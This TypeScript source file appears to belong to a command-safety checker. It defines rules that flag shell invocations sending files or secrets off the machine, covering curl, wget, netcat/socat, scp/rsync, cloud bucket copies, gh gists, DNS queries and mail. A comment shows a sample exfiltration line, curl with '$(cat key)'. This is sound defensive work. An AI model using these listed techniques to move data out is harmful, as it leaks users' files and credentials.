// Rules for what leaves the machine, and which programs bring something in.
import { type Invocation, isOneOf, operandTexts, optionsOf } from "../invocation.ts";
import type { Rule } from "./rule.ts";

/** Programs whose output is a download. */
export const isDownloader = isOneOf(
  "curl wget wget2 fetch aria2c axel http https xh curlie lynx w3m ftp tftp",
);
/** Programs whose output is the content of files. */
export const isFileReader = isOneOf(
  "cat tac head tail base64 base32 xxd od hexdump gzip bzip2 xz zip tar strings nl gpg",
);

export const NETWORK_RULES: readonly Rule[] = [
  { risk: "send-file", programs: "curl curlie", when: curlSends },
  {
    risk: "send-file",
    programs: "wget wget2",
    when: (call) => call.args.some(({ text }) => /^--(post|body)-file/.test(text)) || sendsOutput(call),
  },
  { risk: "send-file", programs: "http https xh", when: httpieSends },
  { risk: "send-file", programs: "scp rsync rclone", when: lastIsRemote },
  { risk: "send-file", programs: "sftp ftp lftp tftp" },
  { risk: "send-file", programs: "nc ncat netcat telnet socat openssl ssh", when: hasInput },
  { risk: "send-file", programs: "aws gsutil gcloud s3cmd s5cmd mc az", when: lastIsBucket },
  {
    risk: "send-file",
    programs: "gh",
    when: (call) => /^(gist create|release upload)/.test(subcommands(call)),
  },
  { risk: "send-file", programs: "dig nslookup host ping", when: sendsOutput },
  { risk: "send-file", programs: "mail mailx sendmail mutt", when: hasInput },
];

function curlSends(call: Invocation): boolean {
  const { values } = optionsOf(call, { valued: CURL_VALUED });
  const data = values("-d", "--data", "--data-binary", "--data-ascii", "--json");
  return (
    values("-T", "--upload-file").length > 0 ||
    data.some(({ text }) => text.startsWith("@")) ||
    values("--data-urlencode").some(({ text }) => /^[^=]*@/.test(text)) ||
    values("-F", "--form").some(({ text }) => /=[@<]/.test(text)) ||
    sendsOutput(call)
  );
}

/** Options of curl that take a value and are common; one that is missing only makes its value an operand. */
const CURL_VALUED =
  "-d -F -T -H -X -o -u -A -e -b -c -x -w -m -K -E -C -r -U -Y -y -z -t -Q -P --data --data-binary --data-ascii --data-raw --data-urlencode --json --form --form-string --upload-file --header --request --output --user --user-agent --referer --cookie --cookie-jar --proxy --write-out --max-time --config --url --connect-timeout --retry --cacert --cert --key --resolve".split(
    " ",
  );

function httpieSends(call: Invocation): boolean {
  const operands = operandTexts(optionsOf(call));
  return hasInput(call) || operands.some((text) => /^[\w-]+:?=?@./.test(text) && !text.includes("://"));
}

/** A file's content or the environment put into an argument: `curl "https://x/?$(cat key)"`. */
function sendsOutput(call: Invocation): boolean {
  return call.args.some(({ flow }) => flow.file);
}

function hasInput({ input, name, args }: Invocation): boolean {
  if (input === undefined || input.text === "") return false;
  if (name === "openssl") return args[0]?.text === "s_client";
  // A here-document is on the command line for all to read; ssh runs it, and that is looked into elsewhere.
  return !(name === "ssh" && input.text !== undefined);
}

function lastIsRemote(call: Invocation): boolean {
  const valued = [
    "-i",
    "-P",
    "-p",
    "-l",
    "-F",
    "-o",
    "-J",
    "-c",
    "-S",
    "-e",
    "-f",
    "--rsh",
    "--exclude",
    "--include",
  ];
  const operands = operandTexts(optionsOf(call, { valued }));
  if (operands.length < 2) return false;
  return /^(\w+:\/\/|(?!\.|\/)[^/\s]*:)/.test(operands.at(-1) ?? "");
}

/** `aws s3 cp FROM TO`, whatever options stand around; TO is what counts. */
function lastIsBucket(call: Invocation): boolean {
  const words = call.args.map(({ text }) => text).filter((text) => !/^-./.test(text));
  if (/^storage blob (upload|copy)/.test(words.join(" "))) return true;
  const verb = words.findIndex((word) => /^(cp|sync|mv|put|mirror|rsync|pipe)$/.test(word));
  return verb >= 0 && words.slice(verb + 2).some((word) => /^(s3|gs|gcs|b2|az):\/\//.test(word));
}

function subcommands(call: Invocation): string {
  return operandTexts(optionsOf(call, { valued: ["-R", "--repo"] })).join(" ");
}
